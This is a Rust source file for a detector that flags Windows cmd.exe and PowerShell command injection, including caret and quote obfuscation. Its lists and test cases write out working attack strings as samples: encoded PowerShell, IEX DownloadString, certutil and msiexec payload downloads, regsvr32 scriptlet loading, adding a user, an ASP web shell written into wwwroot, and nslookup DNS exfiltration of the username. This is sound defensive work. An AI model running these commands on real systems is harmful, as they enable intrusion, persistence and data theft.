//! Windows command injection (cmd.exe and PowerShell). Like `shell_unix`, it first undoes what
//! cmd itself undoes — carets (`w^h^o^a^m^i`), quotes inside words (`c"m"d`), PowerShell backtick
//! escapes (`` i`e`x ``), `%COMSPEC%`/`%windir%` and `%VAR:~a,b%` substrings — then looks at
//! each *command position* (start of value, after `&`, `&&`, `||`, `|`, `;`, a newline, `(`,
//! `cmd /c`, `do`) for a known command whose arguments have its shape: `cmd` wants `/c` or `/k`,
//! `certutil` `-urlcache`/`-decode`, `regsvr32` `/i:`, `powershell` an `-enc`/`-nop`/`-c`
//! parameter, `dir` a drive path... Words in prose (`select the dir and type a name`) have none.
//! Levels follow `shell_unix`: a disguised word or a clear attack argument counts at level 1;
//! a plain command that merely starts the value, or sits in prose / long text, at level 2.

use crate::cmd_deobf::deobfuscate;
use crate::prose::is_long_or_prose;
use crate::shell_windows_args::{cmdlet, redirect_to_script, verb_noun};
use crate::shell_windows_start::starts_with_command;
use crate::{Check, Finding, Input};

pub struct ShellWindows;

pub static SHELL_WINDOWS: ShellWindows = ShellWindows;

/// PowerShell parameters (any prefix of them is accepted by powershell.exe, so is matched).
const PS_PARAMS: &[&str] = &[
    "encodedcommand",
    "ec",
    "noprofile",
    "nop",
    "noninteractive",
    "noni",
    "windowstyle",
    "executionpolicy",
    "ep",
    "command",
    "file",
    "noexit",
    "nologo",
    "sta",
    "mta",
    "version",
];

/// Commands whose first argument must be a `/x` or `-x` switch (or one of `words`).
const SWITCHED: &[(&str, &[&str])] = &[
    ("certutil", &["-urlcache", "/urlcache", "-decode", "-encode", "-split", "-f", "-verifyctl", "-decodehex"]),
    ("bitsadmin", &["/transfer", "/create", "/addfile", "/download", "/resume", "/setnotifycmdline"]),
    ("regsvr32", &["/s", "/n", "/u", "/i"]),
    ("schtasks", &["/create", "/run", "/query", "/delete", "/change"]),
    ("reg", &["add", "query", "delete", "save", "export", "import"]),
    ("net", &["user", "localgroup", "view", "use", "share", "group", "accounts", "start", "stop", "session"]),
    ("net1", &["user", "localgroup", "view", "use", "share", "group", "accounts"]),
    ("netsh", &["firewall", "advfirewall", "wlan", "interface", "http", "winhttp", "portproxy"]),
    ("sc", &["query", "create", "config", "start", "stop", "delete", "qc"]),
    ("wmic", &["process", "os", "/node", "useraccount", "service", "shadowcopy", "qfe", "computersystem", "startup"]),
    ("taskkill", &["/f", "/im", "/pid"]),
    ("timeout", &["/t"]),
    ("tasklist", &["/v", "/svc", "/fi", "/m"]),
    ("ipconfig", &["/all", "/displaydns", "/flushdns"]),
    ("whoami", &["/all", "/priv", "/groups", "/user"]),
    ("icacls", &[]),
    ("vssadmin", &["delete", "list", "create"]),
    // Installers and the compatibility assistant run what they are given (`msiexec /q /i
    // http://…/x.msi`, `pcalua -a \\host\s\x.exe`).
    ("msiexec", &["/i", "/q", "/x", "/y", "/z", "/a", "/j", "/package", "-i", "-q"]),
    ("pcalua", &["-a"]),
];

/// Commands that are an attack on their own at a command position after a separator.
const LONE: &[&str] = &[
    "whoami",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "ver",
    "vol",
    "hostname",
    "netstat",
    "set",
    "dir",
    "cls",
    "path",
    "getmac",
    "qwinsta",
    "quser",
];

/// PowerShell cmdlets and aliases that run code or fetch it.
const PS_CMDLETS: &[&str] = &[
    "iex",
    "invoke-expression",
    "iwr",
    "invoke-webrequest",
    "irm",
    "invoke-restmethod",
    "iwmi",
    "invoke-wmimethod",
    "start-process",
    "saps",
    "new-object",
    "invoke-command",
    "icm",
    "start-bitstransfer",
    "invoke-item",
    "set-mppreference",
    "add-mppreference",
];

#[derive(Clone, Copy, PartialEq)]
enum Opener {
    Start,
    Sep,
}

impl Check for ShellWindows {
    fn detector(&self) -> &'static str {
        "command-injection"
    }

    fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
        let raw = input.text.as_bytes();
        if raw.len() < 3 {
            return None;
        }
        // Without a separator, escape or variable byte only a value that starts with a
        // command word can hold one.
        if !input.bytes.any(b"&|;\n\r%^(\"'`") && !starts_with_command(raw) {
            return None;
        }
        let unescaped = if input.bytes.contains(b'%') { crate::shell_percent::percent_layer(raw) } else { None };
        let (t, marks) = deobfuscate(unescaped.as_deref().unwrap_or(raw));
        let mut best: Option<(&'static str, bool, bool, Opener)> = None;
        scan(&t, &marks, &mut |reason, strong, obf, op| {
            let rank = |x: &(&str, bool, bool, Opener)| (x.2 as u8) * 4 + (x.1 as u8) * 2 + (x.3 == Opener::Sep) as u8;
            let cand = (reason, strong, obf, op);
            if best.is_none_or(|b| rank(&cand) > rank(&b)) {
                best = Some(cand);
            }
        });
        let (reason, strong, obfuscated, opener) = best?;
        let level = if obfuscated {
            if is_long_or_prose(raw) {
                2
            } else {
                1
            }
        } else {
            let base = if opener == Opener::Start && !strong { 2 } else { 1 };
            if is_long_or_prose(raw) {
                base.max(2)
            } else {
                base
            }
        };
        (level <= input.sensitivity).then_some(Finding { reason, score: 0.95, level })
    }
}

fn is_sep(b: u8) -> bool {
    matches!(b, b'&' | b'|' | b'\n' | b'\r' | b';' | b'(' | b')' | b'<' | b'>' | b'`')
}

fn word_end(t: &[u8], i: usize) -> usize {
    i + t[i..].iter().take(256).take_while(|&&c| !c.is_ascii_whitespace() && !is_sep(c) && c != b',').count()
}

/// `needle` occurs in `hay`. Candidates are found by the needle's first punctuation byte
/// (its first byte if it has none): in prose a `.` or `(` is far rarer than an `n` or `i`.
fn contains(hay: &[u8], needle: &[u8]) -> bool {
    let anchor = needle.iter().position(|c| !c.is_ascii_alphanumeric()).unwrap_or(0);
    let Some(&key) = needle.get(anchor) else { return true };
    let mut from = anchor;
    while let Some(p) = hay.get(from..).and_then(|h| h.iter().position(|&c| c == key)) {
        let at = from + p;
        let start = at - anchor;
        if hay.get(start..start + needle.len()) == Some(needle) {
            return true;
        }
        from = at + 1;
    }
    false
}

/// Walks command positions; `report(reason, strong, obfuscated, opener)` for each command.
fn scan(t: &[u8], marks: &[bool], report: &mut dyn FnMut(&'static str, bool, bool, Opener)) {
    // PowerShell download-and-run idioms count wherever they stand. An idiom is searched only
    // when the text holds every one of its bytes (it cannot occur otherwise): prose lacks the
    // `(` or `:` of most of them.
    let present = crate::ByteSet::from_bytes(t);
    let idioms = [
        &b"net.webclient"[..],
        b").downloadstring(",
        b").downloadfile(",
        b"::frombase64string(",
        b"-encodedcommand ",
        b"invoke-expression",
        b"iex(",
    ];
    for idiom in idioms.into_iter().filter(|idiom| present.all(idiom)) {
        if contains(t, idiom) {
            let obf = marks.iter().any(|&m| m);
            report("command-injection:windows-powershell", true, obf, Opener::Sep);
        }
    }
    let n = t.len();
    // Every command position of the whole text: no cap on how many, so benign commands in
    // front (`a&a&...&whoami`) hide nothing; each byte is visited a bounded number of times.
    let (mut i, mut opener) = (0, Some(Opener::Start));
    while i < n {
        if let Some(op) = opener.take() {
            while i < n && matches!(t[i], b' ' | b'\t' | b'@') {
                i += 1;
            }
            if i >= n {
                break;
            }
            let mut end = word_end(t, i);
            // `call X`: X is the command (cmd's way to expand `%a%%b%` into a command word).
            if &t[i..end] == b"call" && t.get(end) == Some(&b' ') {
                i = end;
                while i < n && t[i] == b' ' {
                    i += 1;
                }
                end = word_end(t, i);
            }
            if end == i {
                // A separator right away: let the loop below read it.
                continue;
            }
            let next = command(t, marks, i, end, op, report);
            if let Some(next) = next {
                opener = Some(Opener::Sep);
                i = next;
            } else {
                i = end.max(i + 1);
            }
            continue;
        }
        if matches!(t[i], b'&' | b'|' | b'\n' | b'\r' | b';' | b'(') {
            opener = Some(Opener::Sep);
        }
        i += 1;
    }
}

/// Judges the command word `t[i..end]`; returns where a nested command line starts (after
/// `cmd /c`, `do`, an `if` condition) when there is one.
fn command(
    t: &[u8],
    marks: &[bool],
    i: usize,
    end: usize,
    op: Opener,
    report: &mut dyn FnMut(&'static str, bool, bool, Opener),
) -> Option<usize> {
    let word = &t[i..end];
    let base = word.rsplit(|&c| c == b'\\' || c == b'/').next().unwrap_or(word);
    let base = base.strip_suffix(b".exe").or_else(|| base.strip_suffix(b".com")).unwrap_or(base);
    let pathed = base.len() < word.len();
    // A path counts only when it leads to a binary (`c:\windows\system32\cmd.exe`), so the last
    // segment of `c:\an\arbitrary\path` is not the `path` command.
    if pathed
        && !(word.ends_with(b".exe")
            || word.ends_with(b".com")
            || contains(word, b"system32")
            || contains(word, b"syswow64")
            || contains(word, b"windowspowershell"))
    {
        return None;
    }
    // A word no arm below names reports nothing: rejected before its arguments are collected
    // (every word at a command position of benign prose reaches this point).
    if !known(base) {
        return None;
    }
    // Up to six arguments up to the next separator.
    let mut args: Vec<&[u8]> = Vec::new();
    let mut j = end;
    while j < t.len() && args.len() < 6 {
        match t[j] {
            b' ' | b'\t' | b',' => j += 1,
            b'(' if !args.is_empty() || base == b"iex" => {
                args.push(b"(");
                j += 1;
            }
            c if is_sep(c) => break,
            _ => {
                let e = word_end(t, j);
                if &t[j..e] == b"rem" || t[j] == b'#' {
                    // A comment ends the command (`rem` in cmd, `#` in PowerShell).
                    break;
                }
                args.push(&t[j..e]);
                j = e;
            }
        }
    }
    let first = args.first().copied().unwrap_or(b"");
    let obf = marks.get(i..end.max(i + 1).min(marks.len())).is_some_and(|m| m.iter().any(|&x| x));
    let switch = |a: &[u8]| a.len() >= 2 && (a[0] == b'/' || a[0] == b'-') && a[1].is_ascii_alphabetic();
    let winpath = |a: &[u8]| {
        a.len() >= 3 && a[0].is_ascii_alphabetic() && a[1] == b':' && (a[2] == b'\\' || a[2] == b'/')
            || a.starts_with(b"\\\\")
            || a.first() == Some(&b'%')
    };
    let url = |a: &[u8]| contains(a, b"://") || a.starts_with(b"javascript:") || a.starts_with(b"vbscript:");
    let mut hit = |reason: &'static str, strong: bool| report(reason, strong || pathed, obf, op);
    match base {
        b"cmd" if args.iter().take(4).any(|a| matches!(*a, b"/c" | b"/k" | b"/r")) => {
            hit("command-injection:windows-cmd", true);
            // What follows `/c` is itself a command line.
            let mut p = end;
            let mut seen = 0;
            while p + 1 < t.len() {
                if t[p] == b'/' && matches!(t[p + 1], b'c' | b'k' | b'r') && t.get(p + 2).is_none_or(|c| c.is_ascii_whitespace()) {
                    return Some(p + 2);
                }
                if t[p] == b'/' {
                    seen += 1;
                    if seen > 4 {
                        break;
                    }
                }
                p += 1;
            }
            return None;
        }
        b"cmd" if op == Opener::Sep && args.is_empty() => hit("command-injection:windows-cmd", false),
        b"powershell" | b"pwsh" | b"powershell_ise" => {
            let param = |a: &[u8]| {
                (a.first() == Some(&b'-') || a.first() == Some(&b'/')) && a.len() >= 2 && {
                    let p = &a[1..];
                    p == b"e" || p == b"c" || p == b"w" || PS_PARAMS.iter().any(|k| k.as_bytes().starts_with(p) && p.len() >= 2)
                }
            };
            if args.iter().any(|a| param(a)) || first == b"(" || first.starts_with(b"$") || first.starts_with(b"iex") || verb_noun(first) {
                hit("command-injection:windows-powershell", true);
            }
        }
        _ if PS_CMDLETS.iter().any(|c| c.as_bytes() == base) => {
            let shaped = first == b"("
                || switch(first)
                || first.starts_with(b"$")
                || url(first)
                || first.starts_with(b"net.")
                || first.starts_with(b"system.")
                || [&b".exe"[..], b".ps1", b".bat", b".dll", b".hta", b".vbs"].iter().any(|e| first.ends_with(e))
                || winpath(first);
            // After a separator the cmdlet itself is the command line (`;Start-Process calc`).
            if shaped || op == Opener::Sep {
                hit("command-injection:windows-powershell", shaped);
            }
        }
        // Any other cmdlet after a separator: PowerShell's own `;`, `|` or a cmd `&` in front.
        _ if op == Opener::Sep && cmdlet(base) => {
            let shaped = args.iter().any(|a| switch(a) || winpath(a) || url(a) || a.starts_with(b"$"));
            hit("command-injection:windows-powershell", shaped)
        }
        b"for" if args.iter().any(|a| matches!(*a, b"/f" | b"/l" | b"/r" | b"/d")) || first.starts_with(b"%") => {
            if contains(&t[end..], b" do ") || contains(&t[end..], b")do ") {
                hit("command-injection:windows-cmd", true);
                let p = t[end..].windows(3).position(|w| w == b"do ")?;
                return Some(end + p + 3);
            }
        }
        b"if" => {
            // `if exist X cmd`, `if not exist`, `if defined V cmd`, `if errorlevel 1 cmd`.
            let mut k = 0;
            if args.first() == Some(&&b"not"[..]) {
                k = 1;
            }
            if matches!(args.get(k), Some(&(b"exist" | b"defined" | b"errorlevel"))) && args.len() > k + 2 {
                let cond_end = t[end..].windows(args[k + 1].len()).position(|w| w == args[k + 1]).map(|p| end + p + args[k + 1].len())?;
                return Some(cond_end);
            }
        }
        b"rundll32" if args.iter().any(|a| a.contains(&b',') || url(a) || a.ends_with(b".dll")) || contains(&t[end..j], b",") => {
            hit("command-injection:windows-lolbin", true)
        }
        b"mshta" if args.iter().any(|a| url(a) || a.ends_with(b".hta") || winpath(a)) => hit("command-injection:windows-lolbin", true),
        b"cscript" | b"wscript"
            if args
                .iter()
                .any(|a| [&b".vbs"[..], b".js", b".wsf", b".vbe", b".jse"].iter().any(|e| a.ends_with(e)) || a.starts_with(b"//e:")) =>
        {
            hit("command-injection:windows-lolbin", true)
        }
        b"start" if switch(first) || first.ends_with(b".exe") || url(first) || winpath(first) => {
            hit("command-injection:windows-cmd", false)
        }
        b"dir" | b"type" | b"copy" | b"del" | b"move" | b"attrib" | b"icacls" | b"cacls" | b"takeown"
            if args.iter().any(|a| winpath(a) || switch(a) && base != b"type")
                || base == b"type" && args.iter().any(|a| a.ends_with(b".ini") || a.ends_with(b".txt") || a.ends_with(b".config")) =>
        {
            hit("command-injection:windows-cmd", args.iter().any(|a| winpath(a)));
        }
        b"ping" if args.iter().any(|a| matches!(*a, b"-n" | b"/n" | b"-t" | b"-l")) => hit("command-injection:windows-cmd", true),
        // `net user` / `net view` alone, or with a switch (`/add`, `/domain`); `net user guide`
        // reads as words.
        // `localgroup` is no English word: `net localgroup administrators` is recon.
        b"net" | b"net1" if !(args.len() == 1 || first == b"localgroup" || args.iter().any(|a| switch(a))) => {}
        // `nslookup %USERNAME%.oast.example`: a variable expanded into a looked-up name sends
        // it out over DNS; a host or IP after a separator is the out-of-band probe.
        b"nslookup" if op == Opener::Sep && args.len() <= 2 && args.iter().any(|a| a.contains(&b'.')) => {
            hit("command-injection:windows-cmd", first.first() == Some(&b'%'))
        }
        // `echo <code> > c:\inetpub\wwwroot\x.asp`: a web shell written where it is served.
        b"echo" if redirect_to_script(&t[end..]) => hit("command-injection:windows-cmd", true),
        b"echo" if op == Opener::Sep && first.first() == Some(&b'%') => hit("command-injection:windows-cmd", false),
        _ => {
            if let Some((_, words)) = SWITCHED.iter().find(|(c, _)| c.as_bytes() == base) {
                let ok = args.iter().any(|a| words.iter().any(|w| a.starts_with(w.as_bytes())) || a.starts_with(b"hk"));
                if ok {
                    let lolbin = matches!(base, b"certutil" | b"bitsadmin" | b"regsvr32" | b"wmic" | b"vssadmin" | b"msiexec" | b"pcalua");
                    // Each of these needs its own switch or verb, which prose does not supply.
                    hit(if lolbin { "command-injection:windows-lolbin" } else { "command-injection:windows-cmd" }, true);
                    return None;
                }
            }
            let lone = LONE.iter().any(|c| c.as_bytes() == base);
            let seg_clean = args.iter().all(|a| switch(a) || winpath(a));
            if lone && op == Opener::Sep && seg_clean && !(base == b"set" || base == b"path")
                || lone && op == Opener::Sep && args.is_empty()
            {
                hit("command-injection:windows-cmd", false);
            } else if lone
                && op == Opener::Start
                && args.is_empty()
                && matches!(base, b"whoami" | b"ipconfig" | b"systeminfo" | b"tasklist" | b"getmac")
                && j >= t.len()
            {
                hit("command-injection:windows-cmd", true);
            }
        }
    }
    None
}

/// The command words `command` matches by name besides [`PS_CMDLETS`], [`SWITCHED`] and
/// [`LONE`]; keep in step with its arms.
const ARM_NAMES: &[&str] = &[
    "cmd",
    "powershell",
    "pwsh",
    "powershell_ise",
    "for",
    "if",
    "rundll32",
    "mshta",
    "cscript",
    "wscript",
    "start",
    "dir",
    "type",
    "copy",
    "del",
    "move",
    "attrib",
    "icacls",
    "cacls",
    "takeown",
    "ping",
    "net",
    "net1",
    "echo",
    "nslookup",
];

/// For each first letter, a bit per length of every word `command` knows.
const KNOWN_FIRST_LEN: [u64; 26] = {
    let mut table = [0u64; 26];
    let lists: [&[&str]; 3] = [ARM_NAMES, PS_CMDLETS, LONE];
    let mut l = 0;
    while l < lists.len() {
        let mut k = 0;
        while k < lists[l].len() {
            let w = lists[l][k].as_bytes();
            table[(w[0] - b'a') as usize] |= 1 << w.len();
            k += 1;
        }
        l += 1;
    }
    let mut k = 0;
    while k < SWITCHED.len() {
        let w = SWITCHED[k].0.as_bytes();
        table[(w[0] - b'a') as usize] |= 1 << w.len();
        k += 1;
    }
    table
};

/// `base` may be a word `command` knows (no false negative: a superset by first letter and length).
fn known(base: &[u8]) -> bool {
    let (Some(&first), len) = (base.first(), base.len()) else { return false };
    first.is_ascii_lowercase() && len < 64 && KNOWN_FIRST_LEN[(first - b'a') as usize] & (1 << len) != 0 || cmdlet(base)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cmd_deobf::expand;

    fn level(s: &str) -> Option<u8> {
        let mut input = Input::new(s);
        input.sensitivity = 4;
        SHELL_WINDOWS.inspect(&input).map(|f| f.level)
    }

    #[test]
    fn windows_forms() {
        assert_eq!(expand(b"ProgramData:~0,1"), Some(b"c".to_vec()));
        assert_eq!(expand(b"comspec:~-7"), Some(b"cmd.exe".to_vec()));
        for s in [
            "& cmd /c whoami",
            "| w^h^o^a^m^i",
            "powershell -nop -w hidden -enc SQBFAFgA",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
            "& certutil -urlcache -split -f http://x/a.exe a.exe",
            "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
            "%COMSPEC% /c dir c:\\",
            "|| net user hacker P4ss /add",
            "& for /f %i in ('whoami') do echo %i",
            "; mshta http://x/a.hta",
            "& %ProgramData:~0,1%%ProgramData:~9,1%d /c ver",
            "| powershell Start-Process calc",
            "&nslookup %USERNAME%.x.oast.example",
            "& n^et localgroup administrators",
            "& e^cho ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp",
            ";Start-Process calc",
            "| Get-ChildItem -Path C:\\ -Recurse",
            "; Remove-Item $env:TEMP -Recurse",
            "& msiexec /q /i http://203.0.113.9/x.msi",
            "& msiexec.exe /q /i \\\\203.0.113.9\\s\\x.msi",
            "& pcalua.exe -a \\\\203.0.113.9\\s\\x.exe",
        ] {
            assert_eq!(level(s), Some(1), "{s}");
        }
        for s in [
            "C:\\Program Files\\Common Files\\system",
            "select the dir and type a name",
            "Tom & Jerry",
            "Start-Process is a cmdlet, explain it",
            "Cards; Get-Well soon",
            "how do I run msiexec on a package",
        ] {
            assert_eq!(level(s), None, "{s}");
        }
    }
}
